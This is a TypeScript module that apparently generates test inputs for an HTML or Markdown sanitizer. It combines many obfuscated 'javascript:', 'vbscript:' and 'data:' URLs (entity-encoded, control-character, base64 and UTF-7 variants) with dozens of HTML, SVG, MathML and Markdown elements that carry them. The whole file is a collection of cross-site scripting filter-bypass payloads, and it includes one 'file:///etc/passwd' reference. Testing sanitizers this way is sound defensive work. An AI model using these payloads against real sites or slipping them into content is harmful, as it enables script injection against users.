/** Addresses that run, in every spelling that a browser understands, and what carries them. */

const scripted = [
  "javascript:{run}",
  "JAVASCRIPT:{run}",
  "jAvAsCrIpT:{run}",
  " javascript:{run}",
  "\tjavascript:{run}",
  "\njavascript:{run}",
  "java\tscript:{run}",
  "java\nscript:{run}",
  "java\rscript:{run}",
  "javascript\t:{run}",
  "j\na\nv\na\ns\nc\nr\ni\np\nt\n:{run}",
  "java&Tab;script:{run}",
  "java&NewLine;script:{run}",
  "javascript&colon;{run}",
  "javascript&#58;{run}",
  "javascript&#x3a;{run}",
  "javascript&#x0003a{run}",
  "&#106;avascript:{run}",
  "&#x6a;avascript:{run}",
  "&#0000106&#0000097&#0000118&#0000097script:{run}",
  "&#1;javascript:{run}",
  "&#x01;&#x1f;javascript:{run}",
  "\u0001javascript:{run}",
  "\u0000javascript:{run}",
  "java\u0000script:{run}",
  "java&#0;script:{run}",
  "\u00a0javascript:{run}",
  "\ufeffjavascript:{run}",
  "\u200bjavascript:{run}",
  "\u2028javascript:{run}",
  "javascript://%0a{run}",
  "javascript://x/%0d%0a{run}",
  "javascript:/*x*/{run}//",
  "javascript:{run};//http://x.org",
  "javascript:'<script>{run}</script>'",
  "%6aavascript:{run}",
  "javascript%3a{run}",
  "javascript\\:{run}",
  "java\\script:{run}",
  "ｊavascript:{run}",
  "javaſcript:{run}",
  "view-source:javascript:{run}",
  "feed:javascript:{run}",
  "jar:javascript:{run}",
  "vbscript:{run}",
  "vbscript:msgbox(1)",
  "livescript:{run}",
  "mocha:{run}",
  "data:text/html,<script>{run}</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "DATA:text/html,<script>{run}</script>",
  "data:text/html;charset=utf-7,+ADw-script+AD4-{run}+ADw-/script+AD4-",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
  "data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><script>{run}</script></svg>",
  "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{run}</script>",
  "data:text/xml,<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{run}</h:script></x>",
  "data:image/png;base64,iVBORw0KGgo=",
  "DATA:image/gif;base64,R0lGODlhAQABAAAAACw=",
  "data:,<script>{run}</script>",
  "da\tta:text/html,<script>{run}</script>",
  "about:blank#{run}",
  "blob:null/{run}",
  "filesystem:http://x/{run}",
  "file:///etc/passwd",
];

const carriers = [
  '<a href="{a}">x</a>',
  '<a href="{a}" target=_top>x</a>',
  '<a href="{a}" target=_blank rel=opener>x</a>',
  '<map name=m><area href="{a}" shape=default></map><img usemap=#m src=x>',
  '<svg><a xlink:href="{a}"><text y=20>x</text></a></svg>',
  '<svg><a href="{a}"><circle r=99 /></a></svg>',
  '<math href="{a}"><mi>x</mi></math>',
  '<math><maction actiontype="statusline#x" xlink:href="{a}">x</maction></math>',
  '<iframe src="{a}"></iframe>',
  '<frameset><frame src="{a}"></frameset>',
  '<embed src="{a}">',
  '<object data="{a}"></object>',
  '<object><param name=src value="{a}"></object>',
  '<applet code="{a}"></applet>',
  '<form action="{a}"><button>x</button></form>',
  '<form id=f></form><button form=f formaction="{a}">x</button>',
  '<form><input type=submit formaction="{a}"></form>',
  '<form><input type=image src=x formaction="{a}"></form>',
  '<isindex action="{a}" type=image>',
  '<img src="{a}">',
  '<img srcset="{a} 1x">',
  '<img lowsrc="{a}" dynsrc="{a}" longdesc="{a}">',
  '<input type=image src="{a}">',
  '<video poster="{a}"></video>',
  '<video><source src="{a}"></video>',
  '<audio src="{a}"></audio>',
  '<track src="{a}">',
  '<body background="{a}">',
  '<table background="{a}"><td background="{a}">x</table>',
  '<link rel=stylesheet href="{a}">',
  '<link rel=import href="{a}">',
  '<base href="{a}">',
  '<meta http-equiv=refresh content="0;url={a}">',
  '<meta http-equiv=refresh content="0; {a}">',
  '<svg><image xlink:href="{a}" /></svg>',
  '<svg><use href="{a}#x" /></svg>',
  '<svg><feImage href="{a}" /></svg>',
  '<svg><a><animate attributeName=href values="{a}" /><text y=20>x</text></a></svg>',
  '<svg><a><set attributeName=xlink:href to="{a}" /><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=" href " from=1 to="{a}" /><text y=20>x</text></a></svg>',
  '<svg><handler type="text/javascript" xlink:href="{a}" /></svg>',
  "<div style=\"background:url('{a}')\">x</div>",
  '<blockquote cite="{a}">x</blockquote>',
  '<button popovertarget=x command=show-modal commandfor="{a}">x</button>',
  '<portal src="{a}"></portal>',
  '<fencedframe src="{a}"></fencedframe>',
];

/** The plain spellings everywhere, the odd ones on what is most often let through. */
export function* carriedAddresses(): Generator<string> {
  for (const [index, carrier] of carriers.entries()) {
    for (const [rank, address] of scripted.entries()) {
      const isPlain = rank % 12 === 0 || address.startsWith("data:");
      if (index < 7 || isPlain) yield carrier.replaceAll("{a}", address);
    }
  }
}

const markdown = [
  "[x]({a})",
  "[x](<{a}>)",
  '[x]({a} "title")',
  "![x]({a})",
  "![x](<{a}>)",
  "[![x]({a})]({a})",
  "<{a}>",
  "[x]: {a}\n\n[x]",
  "[x]: <{a}>\n\n![x]",
  "x[^1]\n\n[^1]: [x]({a})",
  "> [!NOTE] [x]({a})",
  "| [x]({a}) |\n| --- |\n| ![x]({a}) |",
  "# [x]({a})",
];

/** The same addresses as Markdown writes them. */
export function* markdownAddresses(): Generator<string> {
  for (const form of markdown) {
    for (const address of scripted) {
      if (/[\n\r]/.test(address)) continue;
      yield form.replaceAll("{a}", address);
    }
  }
}
